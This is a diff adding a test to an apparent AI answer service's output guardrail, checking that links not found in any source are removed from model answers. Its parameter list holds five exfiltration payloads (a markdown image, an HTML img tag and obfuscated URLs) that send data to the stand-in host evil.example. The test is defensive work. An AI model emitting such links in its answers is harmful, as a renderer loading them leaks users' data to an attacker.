@@ -141,3 +141,27 @@ async def test_a_turns_metadata_keeps_nothing_of_the_previous_turns(
     row = await stored_turn(db, tenant.id, second.json()["turn_id"])
     assert "audit" not in row.context_metadata
     assert row.context_metadata["validation"]["output_guardrail"]["issues"] == []
+
+
+@pytest.mark.parametrize(
+    "leak",
+    [
+        "![a](//evil.example/a.png?d=refund-window)",
+        "http:/\\evil.example/x?d=refund-window",
+        "https:evil.example/x?d=refund-window",
+        "&#104;ttp://evil.example/x?d=refund-window",
+        '<img src="//evil.example/a.png?d=refund-window">',
+    ],
+)
+async def test_a_link_in_any_form_a_renderer_loads_is_removed_from_the_answer(
+    app: FastAPI, client: httpx.AsyncClient, db: AsyncSession, leak: str
+) -> None:
+    """The campaign's five forms; tests/guardrails/test_links.py has many more."""
+    reply = f"Damaged goods can be returned within 30 days [1]. {leak}"
+    body, row = await _answer_with(app, client, db, reply)
+    answer = str(body["answer"])
+    assert "evil.example" not in answer and "[link removed]" in answer
+    assert answer.startswith("Damaged goods can be returned within 30 days [1].")
+    guard = body["validation"]["output_guardrail"]  # type: ignore[index]
+    assert "link not found in any source removed" in guard["issues"]
+    assert row.answer == answer
